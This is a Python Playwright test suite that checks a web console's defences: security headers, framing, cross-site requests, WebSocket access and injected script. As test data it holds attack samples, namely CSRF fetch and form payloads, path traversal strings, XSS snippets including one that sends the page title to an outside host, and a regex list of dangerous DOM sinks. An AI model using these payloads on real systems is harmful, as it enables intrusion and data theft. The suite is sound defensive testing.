"""What the console's pages must withstand: other sites, frames, scripts that got in."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

import web.console
from tests.api import PASSWORD
from tests.console.serving import Console, listening
from tests.console.sessions import log_in
from tests.console.windows import Windows

DIRECTORY = Path(web.console.__file__).parent
SIMPLE_TYPES = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")
LOGIN_OPERATION = (
    f'mutation {{ login(input: {{ username: "demo.archivist", password: "{PASSWORD}" }}) {{ expiresIn }} }}'
)
LOGIN = json.dumps({"query": LOGIN_OPERATION})

# What a page of another site tries; each gives what it got to see.
SEND_SIMPLE = """([url, body, type]) => fetch(url, {
    method: "POST", mode: "no-cors", credentials: "include", body, headers: { "content-type": type },
}).then(answer => [answer.type, answer.status], error => error.name)"""
SUBMIT_FORM = """([url, body]) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: url, enctype: "text/plain" });
    const input = document.createElement("input");
    Object.assign(input, { name: body.slice(0, -1) + ',"x":"', value: '"}' });
    form.append(input);
    document.body.append(form);
    form.submit();
}"""
READ = """([url, options]) => fetch(url, options).then(answer => answer.text(), error => error.name)"""
LOAD = """([tag, url]) => new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("refused");
    element.src = url;
    document.body.append(element);
})"""
LISTEN = """url => new Promise(done => {
    const socket = new WebSocket(url, "graphql-transport-ws");
    const heard = [];
    socket.onopen = () => socket.send('{"type": "connection_init"}');
    socket.onmessage = event => {
        heard.push(JSON.parse(event.data).type);
        const query = "subscription { accessChanged { ruleSet } }";
        socket.send(JSON.stringify({ id: "1", type: "subscribe", payload: { query } }));
    };
    socket.onclose = () => done(heard);
})"""
OPEN = "url => { window.opened = window.open(url); }"

# What a script that got in tries.
INJECTIONS = {
    "inline script": """const script = document.createElement("script");
        script.textContent = "window.ran = 1";
        document.body.append(script);""",
    "HTML of a string": """document.body.innerHTML = '<img src=x onerror="window.ran = 1">';""",
    "event attribute": """document.body.setAttribute("onclick", "window.ran = 1");
        document.body.click();""",
    "code of a string": """setTimeout("window.ran = 1");""",
    "address": """const link = document.createElement("a");
        link.href = "javascript:window.ran = 1";
        document.body.append(link);
        link.click();""",
    "another host": """const image = document.createElement("img");
        image.src = "https://example.org/?" + document.title;
        document.body.append(image);""",
}
COUNT_BREACHES = """() => {
    window.breaches = 0;
    addEventListener("securitypolicyviolation", () => { window.breaches += 1; });
}"""


async def _nothing(_request: Request) -> HTMLResponse:
    return HTMLResponse("<!doctype html><title>another site</title><body></body>")


@pytest.fixture(scope="module")
async def other_port() -> AsyncIterator[int]:
    """Where the pages of somebody else are served."""
    async with listening(Starlette(routes=[Route("/", _nothing)])) as (port, _):
        yield port


@pytest.fixture
async def stranger_context(browser: Browser) -> AsyncIterator[BrowserContext]:
    """A profile nobody watches: what is refused there is written to the browser's console."""
    context = await browser.new_context()
    yield context
    await context.close()


@pytest.fixture(params=["localhost", "127.0.0.1"], ids=["another site", "another origin"])
async def stranger(stranger_context: BrowserContext, other_port: int, request: pytest.FixtureRequest) -> Page:
    """A page of another site, and one of another origin on the same site."""
    page = await stranger_context.new_page()
    await page.goto(f"http://{request.param}:{other_port}/")
    return page


@pytest.mark.parametrize("path", ["/console/", "/console/policies", "/console/customers/x?y=z", "/console/login"])
async def test_every_page_comes_with_headers_that_bind_the_browser(console: Console, path: str) -> None:
    """A policy without inline code, other hosts and frames; no sniffing, no referrer, no shared opener."""
    answer = await console.api.http.get(path)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/html; charset=utf-8")
    policy = answer.headers["content-security-policy"]
    for directive in ("default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "base-uri 'none'"):
        assert directive in policy
    assert "form-action 'none'" in policy
    assert "require-trusted-types-for 'script'" in policy
    assert not re.search(r"unsafe|http|\*", policy)
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"
    assert not [name for name in answer.headers if name.startswith("access-control-") or name == "set-cookie"]


def test_no_page_carries_inline_code() -> None:
    """Nor does any script make code or HTML of a string."""
    for page in DIRECTORY.glob("*.html"):
        assert not re.search(r"<script(?![^>]*\ssrc=)|\sstyle=|\son\w+=", page.read_text()), page.name
    scripts = [path for path in DIRECTORY.rglob("*.js") if "node_modules" not in path.parts]
    assert len(scripts) > 10
    for script in scripts:
        risky = re.search(
            r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|unsafeHTML|unsafeSVG",
            script.read_text(),
        )
        assert risky is None, f"{script.relative_to(DIRECTORY)}: {risky}"


@pytest.mark.parametrize(
    "path",
    [
        "../app.py",
        "%2e%2e/__init__.py",
        "..%2f..%2fsettings.js",
        "__init__.py",
        "package.json",
        "node_modules/lit-html/package.json",
        "node_modules/other/x.js",
        "core/%2e%2e/%2e%2e/ide/page.js",
    ],
)
async def test_only_the_files_of_the_console_are_served(console: Console, path: str) -> None:
    """Any other name is the page itself or not found, wherever it points."""
    answer = await console.api.http.get(f"/console/{path}")
    assert answer.status_code == 404 or answer.headers["content-type"].startswith("text/html")
    assert "Owns" not in answer.text
    assert "import " not in answer.text


@pytest.mark.parametrize("how", INJECTIONS)
async def test_injected_code_does_not_run(page: Page, windows: Windows, how: str) -> None:
    """Whatever way it takes: the browser refuses it and reports a breach of the policy."""
    windows.expect_problem(r"(?i)Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|to another host")
    await page.goto("/console/")
    await page.evaluate(COUNT_BREACHES)
    await page.evaluate(f"() => {{ try {{ {INJECTIONS[how]} }} catch {{ /* Trusted Types throw */ }} }}")
    await page.wait_for_function("() => window.breaches > 0")
    assert await page.evaluate("() => window.ran") is None


async def test_another_site_shows_no_console_in_a_frame(stranger: Page, console: Console) -> None:
    """Nothing of it is there to be clicked at unawares."""
    assert await stranger.evaluate(LOAD, ["iframe", f"{console.url}/console/"]) == "loaded"
    (framed,) = stranger.frames[1:]
    await framed.wait_for_url(lambda url: url not in {"", "about:blank"})
    assert framed.url.startswith("chrome-error://")
    assert await framed.locator("console-frame").count() == 0


async def test_a_window_opened_by_another_site_is_out_of_its_reach(stranger: Page, console: Console) -> None:
    """The console knows no opener, and the opener holds a window that is closed to it."""
    async with stranger.context.expect_page() as opening:
        await stranger.evaluate(OPEN, f"{console.url}/console/")
    opened = await opening.value
    await expect(opened.locator("console-frame")).to_have_count(1)
    assert await opened.evaluate("() => window.opener") is None
    assert await stranger.evaluate("() => window.opened.closed")


async def _sessions(console: Console) -> int:
    return await console.api.services.database["sessions"].count_documents({"username": "demo.archivist"})


@pytest.mark.parametrize("content_type", SIMPLE_TYPES)
async def test_another_site_has_nothing_done_without_preflight(
    stranger: Page, console: Console, content_type: str
) -> None:
    """POST with a content type that any form can send opens no session, though the login in it is right."""
    before = await _sessions(console)
    assert await stranger.evaluate(SEND_SIMPLE, [f"{console.url}/graphql", LOGIN, content_type]) == "TypeError"
    assert await _sessions(console) == before
    await console.api.http.post("/graphql", content=LOGIN, headers={"content-type": "application/json"})
    assert await _sessions(console) == before + 1


async def test_another_site_submits_no_form(stranger: Page, console: Console) -> None:
    """Nor one that spells JSON."""
    before = await _sessions(console)
    async with stranger.expect_response(f"{console.url}/graphql") as answering:
        await stranger.evaluate(SUBMIT_FORM, [f"{console.url}/graphql", LOGIN])
    assert (await answering.value).status in {403, 406, 415}
    assert await _sessions(console) == before


async def test_another_site_reads_no_answer(stranger: Page, console: Console) -> None:
    """JSON needs a preflight, which nobody answers; a GET is sent, but what comes back is kept from the page."""
    body = {"method": "POST", "body": '{"query": "{__typename}"}', "headers": {"content-type": "application/json"}}
    assert await stranger.evaluate(READ, [f"{console.url}/graphql", body]) == "TypeError"
    assert await stranger.evaluate(READ, [f"{console.url}/graphql?query={{__typename}}", {}]) == "TypeError"


async def test_another_site_hears_nothing_over_a_socket(stranger: Page, console: Console) -> None:
    """Browsers let any page open one; without a token it is closed before anything is said."""
    assert await stranger.evaluate(LISTEN, f"{console.url.replace('http', 'ws')}/graphql") == []


@pytest.mark.parametrize(("tag", "path"), [("script", "main.js"), ("img", "icon.svg")])
async def test_another_site_uses_no_file_of_the_console(stranger: Page, console: Console, tag: str, path: str) -> None:
    """Neither as a script nor as an image."""
    assert await stranger.evaluate(LOAD, [tag, f"{console.url}/console/{path}"]) == "refused"


async def test_a_login_gives_no_cookie(page: Page) -> None:
    """There is nothing that a browser would send along by itself, for whichever site."""
    await log_in(page, "demo.agent")
    assert await page.context.cookies() == []
